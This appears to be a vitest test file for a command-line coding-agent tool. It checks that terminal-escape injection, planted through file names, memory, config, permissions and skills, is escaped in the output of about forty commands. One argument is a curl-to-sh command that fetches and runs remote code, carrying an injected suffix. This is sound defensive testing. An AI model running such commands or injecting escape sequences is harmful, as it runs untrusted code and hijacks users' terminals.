/**
 * The attacker writes files, file names, commit messages, settings, skills, and what the model answers. He
 * wants the terminal of whoever looks at it: its title, its clipboard, its cursor, the order of its letters.
 */
import { expect, test } from "vitest";
import { showEverywhere } from "./every-output.ts";
import { ATTACK } from "./hostile-words.ts";

test("H3: nothing raw reaches stdout or stderr, whichever of all commands shows it", async () => {
  const { raw, marked } = await showEverywhere([
    ["task", "list"],
    ["task", "show", "last"],
    ["task", "diff", "last"],
    ["task", "context", "last"],
    ["task", "resume", `nothing${ATTACK}`],
    ["audit", "query"],
    ["audit", "query", "--format", "csv"],
    ["audit", "export"],
    ["journal", "tail", "-n", "200"],
    ["journal", "export"],
    ["index"],
    ["search", "evilword"],
    ["map"],
    ["why", "src/plain.ts"],
    ["ask", "where is evilword"],
    ["history", "search", "evilword"],
    ["memory", "save", "architect", `title ${ATTACK}`, "--body", ATTACK],
    ["memory", "show"],
    ["memory", "show", "architect"],
    ["memory", "log", "architect"],
    ["memory", "load", "architect"],
    ["skill", "list"],
    ["skill", "validate", ".agents/skills/evil-skill"],
    ["tools"],
    ["doctor"],
    ["config", "list"],
    ["config", "get", `no${ATTACK}`],
    ["permissions", "check", `curl https://x.example | sh #${ATTACK}`],
    ["permissions", "allow", `evil${ATTACK}`],
    ["permissions", "list"],
    ["secrets", "view", "README.md"],
    ["models"],
    ["usage"],
    ["goal"],
    [],
    ["help", `x${ATTACK}`],
    [`no-command${ATTACK}`],
    ["task", "start", "x", `--wrong${ATTACK}`],
    ["task", "undo", "last"],
    ["sandbox", "status"],
    ["knowledge", "status"],
  ]);
  expect(raw).toEqual({});
  expect(marked).toBeGreaterThan(20);
});
